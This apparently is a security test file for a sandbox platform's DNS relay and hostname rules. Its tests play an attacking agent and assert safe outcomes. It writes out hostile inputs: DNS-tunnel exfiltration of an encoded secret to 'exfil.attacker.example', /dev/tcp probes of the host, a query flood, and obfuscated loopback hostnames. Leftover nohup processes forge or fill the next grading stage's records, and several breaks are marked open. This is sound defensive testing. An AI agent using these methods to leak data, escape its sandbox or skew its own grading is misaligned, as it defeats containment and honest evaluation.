/**
 * Second attacker on the DNS relay and `hostname:` rules (rednet). Each test asserts the SAFE
 * outcome; one titled `BREAK:` fails on the code it was written against, showing the break.
 *
 * Parties: the AGENT writes every byte its sandbox sends (queries, packets to the bridge); the
 * TASK AUTHOR names `allowed_hosts`; a TENANT sends rules over the platform API directly. Network
 * traffic goes only to loopback-free, test-made namespaces (the upstream) and the node's own
 * addresses (which must refuse it).
 *
 * `it.fails` with `OPEN BREAK:` marks a break that is known and not closed yet (see
 * docs/security.md, "Open breaks"): the safe outcome is still asserted, so the day it holds the
 * test fails and must become a plain `it`.
 */
import { execFileSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isSandgymError } from '../../src/common/index.ts';
import { DnsRelay } from '../../src/backends/host/dns-relay.ts';
import { resolveHostnameRules } from '../../src/backends/host/hostname-rules.ts';
import { ipv4Number, prefixMask } from '../../src/backends/host/network-rules.ts';
import { harborNetwork } from '../../src/env/tasks/harbor-network.ts';
import type { Sandbox } from '../../src/platform/index.ts';
import { startFakeResolver, startFakeResolverIn } from '../support/fake-resolver.ts';
import { createTestPlatform, type TestPlatform } from '../support/platform.ts';
import { startUpstream, type Upstream } from '../support/upstream.ts';

const UPSTREAM_INDEX = 47;
/** The stand-in resolver of the node's `dns` rule, in the test's upstream namespace. */
const RESOLVER = `10.250.${UPSTREAM_INDEX}.2`;

/** A shell line: ask the node's resolver for NAME, as any program in the sandbox would. */
function lookUp(name: string): string {
  return `echo nameserver ${RESOLVER} > /etc/resolv.conf; getent hosts ${name} || true`;
}

/** A DNS query for `name` (type A), as printf escapes, for bash's /dev/udp. */
function queryEscapes(id: number, name: string): string {
  const bytes = [id >> 8, id & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
  for (const label of name.split('.')) bytes.push(label.length, ...Buffer.from(label, 'latin1'));
  bytes.push(0, 0, 1, 0, 1);
  return bytes.map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');
}

async function gatewayOf(sandbox: Sandbox): Promise<string> {
  const routes = (await sandbox.readFile('/proc/net/route')).toString();
  const hex = /^\S+\s+00000000\s+([0-9A-F]{8})/m.exec(routes)?.[1] ?? '';
  const gateway = [6, 4, 2, 0].map((at) => parseInt(hex.slice(at, at + 2), 16)).join('.');
  expect(gateway, `${sandbox.id} has no default route: ${routes}`).toMatch(/^100\.\d+\.\d+\.\d+$/);
  return gateway;
}

/** The UDP ports this process (the relay's) listens on at `address`. */
function relayPortsOn(address: string): number[] {
  const out = execFileSync('ss', ['-Hulnp'], { encoding: 'utf8' });
  return out
    .split('\n')
    .filter((line) => line.includes(`pid=${process.pid},`))
    .flatMap((line) => {
      const local = line.trim().split(/\s+/)[3] ?? '';
      return local.startsWith(`${address}:`) ? [Number(local.slice(address.length + 1))] : [];
    });
}

describe('rednet: the DNS relay and hostname rules, attacked', () => {
  let env: TestPlatform;
  let upstream: Upstream;
  let resolver: Awaited<ReturnType<typeof startFakeResolverIn>>;
  /** A TCP server on every address of the node host: no sandbox may ever connect to it. */
  let hostServer: Server;
  const hostConnections: string[] = [];

  beforeAll(async () => {
    upstream = await startUpstream(UPSTREAM_INDEX, [8080]);
    resolver = await startFakeResolverIn(`sandgym-test-upstream${UPSTREAM_INDEX}`, RESOLVER);
    env = await createTestPlatform('rednet', {
      networkRules: { 'mirror:test': [`${upstream.address}:8080`], dns: [`${RESOLVER}:53`] },
    });
    hostServer = createServer((socket) => {
      hostConnections.push(`${socket.remoteAddress ?? '?'} -> ${socket.localAddress ?? '?'}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => hostServer.listen(0, '0.0.0.0', resolve));
  });

  afterAll(async () => {
    await new Promise<void>((resolve) => hostServer?.close(() => resolve()));
    await env?.[Symbol.asyncDispose]();
    await resolver?.[Symbol.asyncDispose]();
    await upstream?.[Symbol.asyncDispose]();
  });

  it.fails(
    'OPEN BREAK: a Harbor allowlist stage resolves only its allowed hosts (no DNS tunnel out)',
    async () => {
      // the task author allows no host at all for the agent: Harbor's allowlist still adds `dns?`
      const network = harborNetwork({
        environment: { network_mode: 'allowlist', allowed_hosts: [] },
        agent: {},
        verifier: {},
      });
      await using sandbox = await env.platform.createSandbox({
        environment: 'debian:bookworm',
        network: network.agent,
      });
      // the agent encodes what it wants out in a name under a domain whose servers it runs
      // (base32, as DNS names are compared without case)
      const secret = 'onswg4tforwwc4djfvvwk6i';
      await sandbox.exec(['bash', '-c', lookUp(`${secret}.exfil.attacker.example`)]);
      const reached = resolver.asked.filter((name) => name.includes(secret));
      expect(reached, 'names outside allowed_hosts the relay asked the upstream resolver').toEqual([]);
    },
  );

  it.fails(
    'OPEN BREAK: an allowlist stage reaches the resolver only through the relay (no TCP around it)',
    async () => {
      const network = harborNetwork({
        environment: { network_mode: 'allowlist', allowed_hosts: [] },
        agent: {},
        verifier: {},
      });
      await using sandbox = await env.platform.createSandbox({
        environment: 'debian:bookworm',
        network: network.agent,
      });
      // DNS over TCP goes straight to the resolver: the relay neither filters nor records it. The
      // stand-in resolver's host has nothing on TCP 53, so "refused" (its RST) means it got there;
      // the node's rules answer "no route" (administratively prohibited)
      const out = await sandbox.exec([
        'bash',
        '-c',
        `timeout 5 bash -c 'exec 3<>/dev/tcp/${RESOLVER}/53' 2>&1 && echo open; true`,
      ]);
      // honest twin: a port the rules do not name is refused by the node, not the resolver's host
      const twin = await sandbox.exec([
        'bash',
        '-c',
        `timeout 5 bash -c 'exec 3<>/dev/tcp/${RESOLVER}/54' 2>&1; true`,
      ]);
      expect(twin.stdout).toMatch(/No route to host/);
      expect(out.stdout, 'TCP to the resolver').not.toMatch(/Connection refused|open/);
    },
  );

  it("holds: the bridge gateway answers a sandbox on no port but the relay's redirect", async () => {
    // every address a rule can name: only the guard stands between the sandbox and the node
    await using sandbox = await env.platform.createSandbox({
      environment: 'debian:bookworm',
      network: ['cidr:0.0.0.0/0', 'dns'],
    });
    const gateway = await gatewayOf(sandbox);
    const relayPorts = relayPortsOn(gateway);
    expect(relayPorts.length, `the relay's ports on ${gateway}`).toBeGreaterThan(0);
    const hostPort = (hostServer.address() as AddressInfo).port;
    const nodeAddresses = Object.values(networkInterfaces())
      .flat()
      .flatMap((a) => (a?.family === 'IPv4' && !a.address.startsWith('100.') ? [a.address] : []));
    const name = 'direct-to-relay.example';
    const script = [
      // a query sent to the relay's own port, not redirected: must get no answer
      ...relayPorts.map(
        (port) =>
          `got=$(timeout 3 bash -c 'exec 3<>/dev/udp/${gateway}/${port}; printf "${queryEscapes(0x4242, name)}" >&3; head -c 12 <&3 | od -An -tx1'); [ -n "$got" ] && echo "answered on ${port}: $got"`,
      ),
      // TCP to the relay's ports, the node host's server through the gateway and its own addresses
      ...[...relayPorts, hostPort, 22].map(
        (port) =>
          `timeout 3 bash -c 'exec 3<>/dev/tcp/${gateway}/${port}' 2>/dev/null && echo "tcp ${gateway}:${port} open"`,
      ),
      ...nodeAddresses.map(
        (address) =>
          `timeout 3 bash -c 'exec 3<>/dev/tcp/${address}/${hostPort}' 2>/dev/null && echo "tcp ${address}:${hostPort} open"`,
      ),
      'true',
    ].join('\n');
    const out = await sandbox.exec(['bash', '-c', script]);
    expect(out.stdout.trim(), 'what the node host answered').toBe('');
    expect(hostConnections).toEqual([]);
    expect(resolver.asked).not.toContain(name);
    // honest twin: the redirect itself works, from the same sandbox
    await sandbox.exec(['bash', '-c', lookUp('twin-through-redirect.example')]);
    expect(resolver.asked).toContain('twin-through-redirect.example');
  });

  it("holds: root in a sandbox has neither CAP_NET_RAW nor CAP_NET_ADMIN (no sending as another's address)", async () => {
    await using sandbox = await env.platform.createSandbox({
      environment: 'debian:bookworm',
      network: ['dns'],
    });
    const status = (await sandbox.exec(['sh', '-c', 'grep -E "^Cap(Eff|Prm|Bnd)" /proc/self/status'])).stdout;
    for (const line of status.trim().split('\n')) {
      const mask = BigInt(`0x${line.split(/\s+/)[1] ?? '0'}`);
      expect(mask & (1n << 12n), `CAP_NET_ADMIN in ${line}`).toBe(0n);
      expect(mask & (1n << 13n), `CAP_NET_RAW in ${line}`).toBe(0n);
    }
  });

  it.fails(
    "OPEN BREAK: a process left from the agent's stage cannot write or hide the next stage's unresolved names",
    async () => {
      // graded in place, the agent's leftovers run beside the tests (even as another user); the
      // grader stage's record must hold what the tests could not resolve, not the agent's choice
      await using sandbox = await env.platform.createSandbox({
        environment: 'debian:bookworm',
        network: ['dns'],
      });
      await sandbox.exec([
        'bash',
        '-c',
        `echo nameserver ${RESOLVER} > /etc/resolv.conf
       nohup bash -c 'while [ ! -e /tmp/go ]; do sleep 0.1; done
         for i in $(seq 1 20); do getent hosts blame-the-task$i.invalid; done; touch /tmp/done' >/dev/null 2>&1 &`,
      ]);
      // the next stage: its rules are set, so its record starts empty
      await sandbox.setNetwork(['dns', 'mirror:test']);
      await sandbox.exec(['bash', '-c', 'touch /tmp/go; while [ ! -e /tmp/done ]; do sleep 0.1; done']);
      // the stage's own work (the tests) now fails to resolve what it needs
      await sandbox.exec(['bash', '-c', lookUp('what-the-tests-needed.invalid')]);
      const record = (await sandbox.stats()).network;
      expect(record?.unresolved, "the stage's record").toContain('what-the-tests-needed.invalid');
      expect(record?.unresolved.filter((n) => n.startsWith('blame-the-task'))).toEqual([]);
    },
  );

  it.fails(
    "OPEN BREAK: a process left from the agent's stage cannot fill the next stage's denied record",
    async () => {
      await using sandbox = await env.platform.createSandbox({
        environment: 'debian:bookworm',
        network: ['dns'],
      });
      // 20 refused destinations on the upstream's /30 link, sent once the next stage begins
      await sandbox.exec([
        'bash',
        '-c',
        `nohup bash -c 'while [ ! -e /tmp/go ]; do sleep 0.1; done
         for p in $(seq 9001 9020); do timeout 2 bash -c "exec 3<>/dev/tcp/${upstream.address}/$p" 2>/dev/null; done
         touch /tmp/done' >/dev/null 2>&1 &`,
      ]);
      await sandbox.setNetwork(['dns', 'mirror:test']);
      await sandbox.exec(['bash', '-c', 'touch /tmp/go; while [ ! -e /tmp/done ]; do sleep 0.1; done']);
      // the stage's own work is refused a host it needed
      await sandbox.exec([
        'bash',
        '-c',
        `timeout 3 bash -c 'exec 3<>/dev/tcp/${upstream.address}/8443' || true`,
      ]);
      const record = (await sandbox.stats()).network;
      expect(record?.denied, "the stage's record").toContain(`${upstream.address}:8443/tcp`);
    },
  );

  it("holds: two sandboxes at once, and the next holder of an address, never see another's names", async () => {
    const addressOf = async (sandbox: Sandbox): Promise<string> =>
      (await sandbox.exec(['hostname', '-I'])).stdout.trim();
    let first: string;
    {
      await using a = await env.platform.createSandbox({ environment: 'debian:bookworm', network: ['dns'] });
      await using b = await env.platform.createSandbox({ environment: 'debian:bookworm', network: ['dns'] });
      first = await addressOf(a);
      await a.exec(['bash', '-c', lookUp('secret-of-a.invalid')]);
      await b.exec(['bash', '-c', lookUp('of-b.invalid')]);
      expect((await a.stats()).network?.unresolved).toEqual(['secret-of-a.invalid']);
      expect((await b.stats()).network?.unresolved).toEqual(['of-b.invalid']);
    }
    await using next = await env.platform.createSandbox({ environment: 'debian:bookworm', network: ['dns'] });
    expect(await addressOf(next), "the next sandbox is given the first one's address").toBe(first);
    expect((await next.stats()).network).toEqual({ denied: [], unresolved: [] });
  });

  it("holds: another eval's relay is out of reach, and its sockets, bridge and table go with it", async () => {
    const other = await createTestPlatform('rednet-other', {
      networkRules: { dns: [`${RESOLVER}:53`] },
    });
    let gateway = '';
    let ports: number[] = [];
    try {
      {
        await using theirs = await other.platform.createSandbox({
          environment: 'debian:bookworm',
          network: ['dns'],
        });
        gateway = await gatewayOf(theirs);
        ports = relayPortsOn(gateway);
        expect(ports.length).toBeGreaterThan(0);
        // a sandbox of this eval, with every address its rules can name, sends to the other relay
        await using ours = await env.platform.createSandbox({
          environment: 'debian:bookworm',
          network: ['cidr:0.0.0.0/0', 'dns'],
        });
        expect(await gatewayOf(ours)).not.toBe(gateway);
        const probes = ports.map(
          (port) =>
            `got=$(timeout 3 bash -c 'exec 3<>/dev/udp/${gateway}/${port}; printf "${queryEscapes(7, 'cross-eval.example')}" >&3; head -c 12 <&3 | od -An -tx1'); [ -n "$got" ] && echo "answered on ${port}"`,
        );
        const out = await ours.exec(['bash', '-c', [...probes, 'true'].join('\n')]);
        expect(out.stdout.trim()).toBe('');
        expect(resolver.asked).not.toContain('cross-eval.example');
      }
    } finally {
      await other[Symbol.asyncDispose]();
    }
    expect(relayPortsOn(gateway), 'relay sockets left after the platform closed').toEqual([]);
    const links = execFileSync('ip', ['-4', '-o', 'addr', 'show'], { encoding: 'utf8' });
    expect(links, 'the bridge of the closed platform').not.toContain(`${gateway}/`);
  });

  it("holds: a sandbox flooding the relay with queries and junk does not starve its neighbour's", async () => {
    await using flooder = await env.platform.createSandbox({
      environment: 'debian:bookworm',
      network: ['dns'],
    });
    await using neighbour = await env.platform.createSandbox({
      environment: 'debian:bookworm',
      network: ['dns'],
    });
    const query = queryEscapes(0x1111, 'flood.invalid');
    // queries and truncated junk, as fast as bash writes them, until the neighbour is done
    await flooder.exec([
      'bash',
      '-c',
      `nohup bash -c 'exec 3<>/dev/udp/${RESOLVER}/53
         while [ ! -e /tmp/stop ]; do for i in 1 2 3 4 5 6 7 8 9 10; do
           printf "${query}" >&3; printf "\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\xc0\\x0c" >&3
         done; done' >/dev/null 2>&1 &
       sleep 1`,
    ]);
    try {
      const out = await neighbour.exec(['bash', '-c', lookUp('neighbour-still-answered.example')]);
      expect(out.stdout).toContain('10.0.0.1');
    } finally {
      await flooder.exec(['touch', '/tmp/stop']);
    }
    // the flooder's record is bounded, and the neighbour's is its own
    expect((await flooder.stats()).network?.unresolved).toEqual(['flood.invalid']);
    expect((await neighbour.stats()).network?.unresolved).toEqual([]);
  });

  it('holds: a tenant naming the node in hostname: forms is refused before any rule is written', async () => {
    // numeric forms that are no IP literal to node:net but an address to getaddrinfo
    for (const host of ['0x7f.1', '127.1', '0177.0.0.1', '0300.0250.0.1', '100.64.1', '0.0']) {
      // refused, or not resolved at all: either way no rule is written
      await expect(resolveHostnameRules([`hostname:${host}`]), host).rejects.toThrow(
        /is an address|resolves to|does not resolve|not a host name/,
      );
    }
    for (const rule of [
      'hostname:0x7f.1',
      'hostname:LOCALHOST.',
      'hostname:localhost.',
      'hostname:a.b.internal.',
    ]) {
      const error: unknown = await env.platform
        .createSandbox({ environment: 'busybox:latest', network: [rule] })
        .then(
          async (sandbox) => {
            await sandbox[Symbol.asyncDispose]();
            return undefined;
          },
          (e: unknown) => e,
        );
      expect(isSandgymError(error) && error.code, `${rule}: ${String(error)}`).toMatch(
        /^(invalid_argument|permission_denied)$/,
      );
    }
  });

  // broke when written: only RFC 1918's ranges and the node's own addresses were refused
  it("a hostname resolving to a neighbour on the node's own link is refused", async () => {
    // the node's own network is whatever its interfaces are on, not only RFC 1918's ranges
    const link = Object.values(networkInterfaces())
      .flat()
      .find((a) => a?.family === 'IPv4' && !a.internal && !a.address.startsWith('100.'));
    expect(link, 'an external IPv4 interface of the node').toBeDefined();
    const bits = Number(link!.cidr!.split('/')[1]);
    const own = ipv4Number(link!.address);
    const net = (own & prefixMask(bits)) >>> 0;
    // the first host of the link that is not the node: its router, most often
    const neighbourNumber = net + 1 === own ? net + 2 : net + 1;
    const neighbour = [24, 16, 8, 0].map((s) => (neighbourNumber >>> s) & 255).join('.');
    const lookup = (): Promise<string[]> => Promise.resolve([neighbour]);
    await expect(
      resolveHostnameRules(['hostname:router.attacker.example'], lookup),
      `${neighbour}, on the node's link ${link!.cidr}`,
    ).rejects.toThrow(/router\.attacker\.example/);
  });
});

describe('rednet: what the relay keeps is text a report can show', () => {
  it('holds: names with control bytes, dots inside a label or upper case cannot forge a report line', async () => {
    const resolver = await startFakeResolver('127.0.0.1');
    const relay = await DnsRelay.open('127.0.0.1', [{ address: '127.0.0.1', port: resolver.port }]);
    const key = `127.0.0.1:${resolver.port}`;
    const socket = createSocket('udp4');
    try {
      relay.permit('127.0.0.5', [key]);
      await new Promise<void>((resolve) => socket.bind(0, '127.0.0.5', resolve));
      const answers: Buffer[] = [];
      socket.on('message', (packet) => answers.push(packet));
      // labels as raw bytes: an escape sequence, a dot inside one label, a newline and a comma
      const forged = [
        ['evil\x1b[2Jclear', 'invalid'],
        ['pypi.org', 'invalid'],
        ['a\nagent: denied 1.2.3.4:443/tcp, b', 'invalid'],
      ];
      for (const [i, labels] of forged.entries()) {
        const header = Buffer.from([0, i, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
        const name = labels.flatMap((label) => [Buffer.from([label.length]), Buffer.from(label, 'latin1')]);
        socket.send(
          Buffer.concat([header, ...name, Buffer.from([0, 0, 1, 0, 1])]),
          relay.portOf(key),
          '127.0.0.1',
        );
      }
      while (answers.length < forged.length) await new Promise((resolve) => setTimeout(resolve, 10));
      const kept = relay.unresolved('127.0.0.5');
      expect(kept).toHaveLength(forged.length);
      for (const name of kept) expect(name).toMatch(/^[a-z0-9_.\\-]+$/);
      expect(kept).not.toContain('pypi.org.invalid');
    } finally {
      socket.close();
      relay.close();
      await resolver[Symbol.asyncDispose]();
    }
  });
});
